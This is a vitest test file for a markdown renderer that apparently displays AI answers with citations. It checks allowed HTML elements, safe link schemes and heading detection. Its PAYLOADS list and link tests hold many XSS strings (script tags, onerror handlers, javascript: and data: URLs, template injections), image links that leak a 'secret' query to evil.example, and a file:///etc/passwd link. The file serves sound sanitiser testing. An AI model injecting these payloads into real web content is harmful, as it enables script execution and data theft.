// @vitest-environment happy-dom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { safeTarget } from '../src/links';
import { decodeEntities } from '../src/markdown';
import { cite, doubt, draw, span, words } from './dom';

const ALLOWED: Record<string, string[]> = {
  p: ['class'],
  h3: [],
  h4: [],
  h5: [],
  ul: [],
  ol: ['start'],
  li: [],
  blockquote: [],
  pre: ['tabindex'],
  code: [],
  hr: [],
  div: ['class', 'tabindex'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class', 'scope'],
  td: ['class'],
  strong: [],
  em: [],
  del: [],
  br: [],
  a: ['href', 'target', 'rel'],
  span: ['class'],
};

function check(root: Element): void {
  for (const element of root.querySelectorAll('*')) {
    const allowed = ALLOWED[element.localName];
    expect(allowed, element.outerHTML).toBeDefined();
    for (const { name, value } of element.attributes) {
      expect(allowed, `${element.localName} ${name}`).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      if (name === 'class') expect(['', 'wide', 'host', 'loose', 'keep', 'left', 'right', 'center']).toContain(value);
      if (name === 'rel') expect(value).toBe('noopener noreferrer nofollow');
    }
  }
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(//evil)}</style>',
  '<form action=//evil><input name=x></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil/1)',
  '[x](//evil.example/path)',
  '[x](/relative)',
  '[x](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[x](https://ok.example" onmouseover="alert(1))',
  '[x](https://ok.example "t\\" onmouseover=alert(1)")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '![x](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '![" onerror="alert(1)](https://evil.example/x.png)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>x</script> | [x](javascript:1) |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '# <b onclick=alert(1)>h</b>',
  '> <object data="javascript:alert(1)">',
  'https://evil.example/<script>alert(1)</script>',
  'www.evil.example"onmouseover=alert(1)',
  'a@b.c"><img src=x onerror=alert(1)>',
  '${alert(1)}',
  '<!--lit-part x--><?lit$1$><!--?lit$1$-->',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2e4f\ue001\u2e4f\u2e4f\ue000\u2e4f',
  '&#11855;&#57345;&#11855;',
];

describe('hostile answers', () => {
  it.each(PAYLOADS)('%j gives only known elements and attributes', (payload) => {
    for (const text of [
      payload,
      `before ${payload} after`,
      `- ${payload}`,
      `> ${payload}`,
      `**${payload}**`,
      `[${payload}](https://a.example)`,
    ])
      check(draw(text));
  });

  it('any mixture of them does too', () => {
    const parts = fc.array(
      fc.oneof(
        fc.constantFrom(...PAYLOADS),
        fc.constantFrom('\n\n', '\n', '**', '`', '[', '](', ')', '<', '>', '|', '- ', '\\', '&'),
        fc.string(),
      ),
      { maxLength: 8 },
    );
    fc.assert(
      fc.property(parts, (list) => {
        check(draw(list.join('')));
      }),
      { numRuns: 40 },
    );
  });

  it('shows HTML as the text it is', () => {
    expect(words(draw('a <b onclick="x()">bold</b> <script>alert(1)</script>'))).toBe(
      'a <b onclick="x()">bold</b> <script>alert(1)</script>',
    );
  });

  it('never loads an image, it names the place', () => {
    const root = draw('![chart](https://evil.example/x.png)');
    expect(root.querySelector('img')).toBeNull();
    expect(words(root)).toBe('chart (evil.example)');
  });

  it('draws text that is nested without end', () => {
    for (const text of [
      '>'.repeat(3000) + ' x',
      '- '.repeat(2000) + 'x',
      '*'.repeat(3000) + 'x',
      '['.repeat(3000) + 'x',
      '**x '.repeat(500),
    ]) {
      const root = draw(text);
      check(root);
      expect(words(root)).toContain('x');
    }
  });
});

describe('links', () => {
  it('show their host unless their words already do', () => {
    expect(words(draw('[policy](https://intranet.example/a/b)'))).toBe('policy (intranet.example)');
    expect(words(draw('https://intranet.example/a/b'))).toBe('https://intranet.example/a/b');
    expect(words(draw('[mail](mailto:hr@example.com)'))).toBe('mail (hr@example.com)');
  });

  it('cannot pretend another place', () => {
    expect(words(draw('[https://bank.example](https://evil.example/x)'))).toContain('(evil.example)');
    expect(words(draw('[bank.example](https://bank.example@evil.example/)'))).toContain('(evil.example)');
    expect(words(draw('[x](https://аррӏе.com)'))).toContain('(xn--');
  });

  it('accept three schemes only', () => {
    expect(safeTarget('https://a.example')?.host).toBe('a.example');
    for (const bad of ['javascript:1', 'data:,x', '//a.example', 'x', '', 'ftp://a', ' javascript:1', 'java\nscript:1'])
      expect(safeTarget(bad)).toBeNull();
  });
});

describe('ordinary markdown', () => {
  it('keeps its structure', () => {
    const root = draw(
      '# A\n\n## B\n\n1. x\n2. **y**\n\n   more\n\n> q\n\n```js\nlet a = 1 < 2;\n```\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n~~old~~ *it* `c`\n\n---',
    );
    const count = (name: string): number => root.querySelectorAll(name).length;
    expect(
      ['h3', 'h4', 'ol', 'li', 'strong', 'blockquote', 'pre', 'table', 'th.right', 'td.right', 'del', 'em', 'hr'].map(
        count,
      ),
    ).toEqual([1, 1, 1, 2, 1, 1, 1, 1, 1, 1, 1, 1, 1]);
    expect(root.querySelector('pre')!.textContent).toBe('let a = 1 < 2;');
  });

  it('begins a list where it begins', () => {
    expect(draw('3. x\n4. y').querySelector('ol')!.getAttribute('start')).toBe('3');
  });

  it('reads character references once', () => {
    expect(words(draw('R&amp;D &lt;b&gt; 1&nbsp;000 &#39;x&#x27; &amp;lt; &bogus;'))).toBe(
      "R&D <b> 1 000 'x' &lt; &bogus;",
    );
    expect(decodeEntities('&#0;&#xD800;&#x110000;')).toBe('\ufffd\ufffd\ufffd');
    expect(words(draw('`&amp;`'))).toBe('&amp;');
  });

  it('keeps line breaks of a chat', () => {
    expect(draw('a\nb').querySelectorAll('br')).toHaveLength(1);
  });

  it('is bold beside Chinese punctuation', () => {
    for (const text of ['**注意：**内容', '依据**“年假”**规定', '他说：**重点。**然后', '**一。**二**三。**四']) {
      const root = draw(text);
      expect(root.querySelector('strong'), text).not.toBeNull();
      expect(words(root)).toBe(text.replaceAll('*', ''));
    }
    expect(words(draw('2 ** 3 ** 4'))).toBe('2 ** 3 ** 4');
  });
});

describe('answers per source', () => {
  const ANSWER =
    '**Leave_policy (2024) [v2] · C#**\n\n- 25 days\n- 5 carried over\n\n**差旅费管理办法（2024年版）。**\n\n' +
    '| 城市 | 元 |\n|--|--|\n| 一线 | 600 |\n\n**👩‍🚀 <b>Tools</b>**\n\nNothing **bold** here.\n\n**Not a title**';
  const titles = (root: Element): string[] => [...root.querySelectorAll('h5')].map((title) => words(title));
  const TITLES = ['Leave_policy (2024) [v2] · C#', '差旅费管理办法（2024年版）。', '👩‍🚀 <b>Tools</b>'];

  it('have headings that a screen reader finds, and bold words elsewhere stay bold words', () => {
    const root = draw(ANSWER);
    expect(titles(root)).toEqual(TITLES);
    expect(root.querySelectorAll('ul li')).toHaveLength(2);
    expect(root.querySelectorAll('td')).toHaveLength(2);
    expect([...root.querySelectorAll('p strong')].map((one) => one.textContent)).toEqual(['bold', 'Not a title']);
    check(root);
  });

  it('have the same headings with citations in and around them', () => {
    const cited = [cite(1, span(ANSWER, '25 days')), cite(2, span(ANSWER, '**差旅费管理办法（2024年版）。**'))];
    const root = draw(ANSWER, cited, [doubt(span(ANSWER, 'Nothing **bold** here.'))]);
    expect([...root.querySelectorAll('button')].map((one) => one.textContent)).toEqual(['[1]', '[2]']);
    for (const button of root.querySelectorAll('button')) button.remove();
    expect(titles(root)).toEqual(TITLES);
  });

  it('that are one bold line are no heading', () => {
    for (const text of ['**25 days**', '**25 days**\n\n', '**a** b\n\nc', '**a** **b**\n\nc'])
      expect(draw(text).querySelector('h5')).toBeNull();
  });
});
